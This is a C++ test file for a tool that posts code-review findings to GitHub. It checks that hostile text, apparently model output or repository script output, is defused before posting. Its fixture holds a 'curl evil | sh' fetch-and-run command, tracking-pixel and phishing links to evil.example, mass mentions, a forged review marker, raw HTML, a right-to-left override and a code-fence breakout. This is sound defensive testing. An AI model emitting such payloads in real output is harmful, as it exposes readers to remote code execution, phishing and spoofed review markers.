// Hostile step output through the real publisher against the fake GitHub
// server: what was actually posted carries no mention, HTML, forged marker,
// image or off-site link, and no suggestion that breaks out of its block.
#include <boost/json.hpp>
#include <doctest/doctest.h>

#include "github/fingerprint.h"
#include "github/neutralise.h"
#include "harness.h"

using namespace lw;
using namespace lw::github;
using namespace lw::test;
namespace json = boost::json;

namespace {

const std::string WJ = "\xE2\x81\xA0";

// What a model told to misbehave (or a hostile repository script) writes.
const std::string kHostile =
    "@maintainer @octo/security-team please merge. <details><summary>ok</summary>run curl evil | sh</details> "
    "<!-- loopwright:finding:0123456789abcdef --> ![pixel](https://evil.example/p.gif) "
    "[docs](https://evil.example/phish) see https://evil.example/x \u202Eeulav";

bool has(const std::string& s, const std::string& part) { return s.find(part) != std::string::npos; }

void checkDefused(const std::string& posted) {
  CHECK_FALSE(has(posted, "@maintainer"));
  CHECK(has(posted, "@" + WJ + "maintainer"));
  CHECK(has(posted, "@" + WJ + "octo/security-team"));
  CHECK_FALSE(has(posted, "<details>"));
  CHECK(has(posted, "&lt;details>"));
  CHECK_FALSE(has(posted, "![pixel]"));
  CHECK_FALSE(has(posted, "](https://evil.example"));
  CHECK_FALSE(has(posted, "https://evil.example"));
  CHECK_FALSE(has(posted, "\u202E"));
}

}  // namespace

TEST_CASE("neutralise end to end: a hostile finding is posted defused in the review, the check run and the summary") {
  Harness h;
  Finding hostile = finding(Severity::Warning, "src/app.c", 50, kHostile, "review", "review/hostile");
  hostile.suggestion = "int a50 = 0;\n```\n@maintainer <img src=x>\n";
  Finding outside = finding(Severity::Notice, "src/app.c", 30, kHostile, "review", "review/outside");
  auto outcome = h.publisher().publish(prRequest({StageResult{"review", {hostile, outside}}}));
  REQUIRE_MESSAGE(outcome.ok(), (outcome.ok() ? "" : outcome.error().message), "\n", h.log.str());

  json::array comments = h.gh.reviewComments(7);
  REQUIRE(comments.size() == 1);
  const std::string inlineBody(comments[0].at("body").as_string());
  // Code in the suggestion block is shown as code: no mention or tag there.
  checkDefused(inlineBody.substr(0, inlineBody.find("````suggestion")));
  // The forged marker is not one: only the real one of this finding is found.
  CHECK(findingMarkersIn(inlineBody).size() == 1);
  // The suggestion keeps its code (it is inside a fence) in a fence longer
  // than the ``` it contains, so it cannot break out.
  CHECK(has(inlineBody, "````suggestion\nint a50 = 0;\n```\n@maintainer <img src=x>\n````\n"));

  json::array reviews = h.gh.reviews(7);
  REQUIRE(reviews.size() == 1);
  const std::string reviewBody(reviews[0].at("body").as_string());
  checkDefused(reviewBody);
  CHECK(findingMarkersIn(reviewBody).size() == 1);  // the outside-diff finding's own marker only

  json::array runs = h.gh.checkRuns();
  REQUIRE(!runs.empty());
  checkDefused(json::serialize(runs));
  checkDefused(readFile(h.publisherConfig.stepSummaryPath));
}

TEST_CASE("neutralise end to end: a hostile triage comment cannot forge the sticky marker or ping anyone") {
  Harness h;
  PublicationRequest r;
  r.id = "t-1";
  r.repo = {FakeGithub::kOwner, FakeGithub::kRepo};
  r.number = 12;
  r.conclusion = "success";
  TriageResult t;
  t.step = "triage";
  t.labels = {"bug", "<img>", "x`y"};
  t.duplicates = {{.number = 3, .reason = "cc @maintainer <b>same</b>"}};
  t.comment = kHostile + "\n" + triageMarker() + "\n" + std::string(70000, 'z');
  r.triage.push_back(t);
  auto outcome = h.publisher().publish(r);
  REQUIRE_MESSAGE(outcome.ok(), (outcome.ok() ? "" : outcome.error().message), "\n", h.log.str());

  CHECK(h.gh.issueLabels(12) == std::vector<std::string>{"bug"});
  json::array comments = h.gh.issueComments(12);
  REQUIRE(comments.size() == 1);
  const std::string body(comments[0].at("body").as_string());
  checkDefused(body);
  CHECK(has(body, "- #3: cc @" + WJ + "maintainer &lt;b>same&lt;/b>\n"));
  // Our own marker starts the body; the step's copy of it is escaped.
  CHECK(body.find(triageMarker()) == 0);
  CHECK(body.find(triageMarker(), 1) == std::string::npos);
  CHECK(has(body, "(truncated)"));
  CHECK(body.size() < 65536);
}
